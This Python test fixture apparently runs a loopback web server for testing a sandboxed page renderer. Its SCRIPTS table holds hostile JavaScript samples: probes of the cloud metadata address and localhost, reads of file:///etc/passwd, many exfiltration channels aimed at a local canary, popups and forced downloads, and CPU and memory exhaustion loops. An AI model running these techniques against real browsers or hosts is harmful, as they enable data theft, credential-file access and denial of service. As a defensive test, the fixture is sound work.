"""A site on loopback whose pages are built by scripts, honest and hostile ones, and a canary that nobody may reach."""

from __future__ import annotations

import json
import socket
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Self

if TYPE_CHECKING:
    from types import TracebackType

STORY = [
    "The harbour office counted ninety crossings on the day after the storm, it said on Tuesday.",
    "Nobody on the quay remembered a higher number, although the older pilots tell of a winter with more.",
    "The keeper of the lock had to open the second gate before breakfast and wrote it into the long book.",
    "The council will vote on the repair of the eastern pier in its next meeting, which is in the spring.",
]
HEADLINE = "Ninety crossings after the storm"
BUILD = """
const show = story => {
  document.title = story.title;
  document.getElementById("app").innerHTML = "<article><h1>" + story.title + "</h1>" +
    story.text.map(each => "<p>" + each + "</p>").join("") + "</article>";
};
"""
ASK = "fetch('/story.json').then(answer => answer.json()).then(show);"
STORY_HERE = f"show({json.dumps({'title': HEADLINE, 'text': STORY})});"

# What each page's own script does besides building the article; CANARY stands for an address inside.
SCRIPTS = {
    "built": ASK,
    "spinner": STORY_HERE + "setInterval(() => fetch('/poll?' + Math.random()).catch(() => 0), 20);",
    "never": "setInterval(() => { document.title = 'Loading ' + Date.now(); fetch('/poll?' + Math.random()); }, 20);",
    "inside": "for (const url of ['http://169.254.169.254/latest/meta-data/', 'CANARY/secret', 'http://localhost:22/'])"
    "  fetch(url).then(answer => answer.text()).then(text => document.body.append('LEAKED ' + text)).catch(() => 0);"
    + ASK,
    "file": "try { location = 'file:///etc/passwd' } catch (e) {}; fetch('file:///etc/passwd').catch(() => 0);" + ASK,
    "away": "location = 'CANARY/elsewhere';" + ASK,
    "windows": "open('CANARY/popup'); open('/built'); alert('read me'); confirm('sure?'); prompt('who?');"
    "const a = document.createElement('a'); a.href = '/download.zip'; a.download = 'x'; document.body.append(a); a.click();"
    "onbeforeunload = () => 'stay';" + ASK,
    "sneaky": "new WebSocket('CANARY/ws'.replace('http', 'ws')); new EventSource('CANARY/events');"
    "navigator.sendBeacon('CANARY/beacon', 'x'); new Image().src = 'CANARY/image.png';"
    "const add = (tag, more) => document.head.append(Object.assign(document.createElement(tag), more));"
    "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'manifest', 'icon'])"
    "  add('link', {rel, href: 'CANARY/' + rel, as: 'script'});"
    "document.body.append(Object.assign(document.createElement('iframe'), {src: 'CANARY/frame'}));"
    "new Worker(URL.createObjectURL(new Blob([\"fetch('CANARY/worker'); importScripts('CANARY/import')\"])));"
    "try { navigator.serviceWorker.register('/worker.js') } catch (e) {};"
    "try { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:CANARYHOST'}]}); peer.createDataChannel('x');"
    "  peer.createOffer().then(offer => peer.setLocalDescription(offer)) } catch (e) {};"
    "fetch('/to-canary').catch(() => 0);" + ASK,
    "post": "fetch('/vote', {method: 'POST', body: 'yes'}).catch(() => 0); document.cookie = 'seen=1';"
    "localStorage.setItem('seen', '1'); setTimeout(() => fetch('/told?' + document.cookie), 50);" + ASK,
    "fresh": "fetch('/told?cookie=' + document.cookie + '&stored=' + localStorage.getItem('seen'));" + ASK,
    "cpu": "while (true) {}",
    "memory": "const all = []; while (true) all.push(new Uint8Array(4 << 20).fill(7));",
    "heap": "const all = []; while (true) all.push(new Array(1e6).fill(all.length + 0.5));",
    "huge": "const p = document.createElement('p'); p.textContent = 'x'.repeat(1 << 20);"
    "for (let i = 0; i < 21; i++) document.body.append(p.cloneNode(true));",
}


@dataclass
class Scripted:
    """The running site; `asked`: the paths it was asked for; `knocks`: how often somebody reached the canary; `edition`: of
    the story that scripts fetch."""

    asked: list[str] = field(default_factory=list)
    knocks: int = 0
    edition: int = 1

    def __post_init__(self) -> None:
        site = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                site._answer(self)

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.origin = f"http://127.0.0.1:{self._server.server_port}"
        self._canaries = [socket.socket(socket.AF_INET, kind) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM)]
        self._canaries[0].bind(("127.0.0.1", 0))
        self._canaries[0].listen()
        self.canary_host = f"127.0.0.1:{self._canaries[0].getsockname()[1]}"
        self._canaries[1].bind(self._canaries[0].getsockname())

    def __enter__(self) -> Self:
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
        for listen in (lambda: self._canaries[0].accept()[0].close(), lambda: self._canaries[1].recv(1)):
            threading.Thread(target=self._count, args=(listen,), daemon=True).start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, at: TracebackType | None) -> None:
        self._server.shutdown()
        self._server.server_close()
        for canary in self._canaries:
            canary.close()

    def _count(self, listen: object) -> None:
        while True:
            try:
                listen()  # type: ignore[operator]
            except OSError:
                return
            self.knocks += 1

    def html(self, name: str) -> str:
        """The page as it is sent: a shell."""
        script = SCRIPTS[name].replace("CANARYHOST", self.canary_host).replace("CANARY", f"http://{self.canary_host}")
        return (
            "<!doctype html><html lang=en><head><title>The Gate</title><link rel=stylesheet href=/style.css></head><body>"
            "<nav><a href='/'>Home</a></nav><div id=app></div><img src=/picture.png><script src=/build.js></script>"
            f"<script>{script}</script></body></html>"
        )

    def _answer(self, request: BaseHTTPRequestHandler) -> None:
        self.asked.append(request.path)
        path = request.path.partition("?")[0]
        status, kind, body = 200, "text/html; charset=utf-8", b""
        if path[1:] in SCRIPTS:
            body = self.html(path[1:]).encode()
        elif path == "/plain":
            text = "".join(f"<p>{each} {each}</p>" for each in STORY)
            body = f"<!doctype html><title>{HEADLINE}</title><article><h1>{HEADLINE}</h1>{text}</article><script src=/build.js></script>".encode()
        elif path == "/build.js":
            kind, body = "text/javascript", BUILD.encode()
        elif path == "/story.json":
            edits = [
                f"In edition {each} the keeper added that more boats were seen." for each in range(2, self.edition + 1)
            ]
            kind, body = "application/json", json.dumps({"title": HEADLINE, "text": [*STORY, *edits]}).encode()
        elif path == "/feed.xml":
            item = f"<item><title>{HEADLINE}</title><link>{self.origin}/built</link></item>"
            kind, body = (
                "application/rss+xml",
                f"<rss version='2.0'><channel><title>The Gate</title>{item}</channel></rss>".encode(),
            )
        elif path == "/to-canary":
            status, kind = 302, f"http://{self.canary_host}/redirected"
        elif path == "/robots.txt":
            kind, body = "text/plain", b"User-agent: *\nDisallow: /forbidden\n"
        elif path not in ("/poll", "/told"):
            status = 404
        request.send_response(status)
        request.send_header("Location" if status == 302 else "Content-Type", kind)
        request.send_header("Content-Length", str(len(body)))
        request.send_header("Set-Cookie", "server=1")
        request.send_header("ETag", '"the-shell-never-changes"')
        request.end_headers()
        request.wfile.write(body)
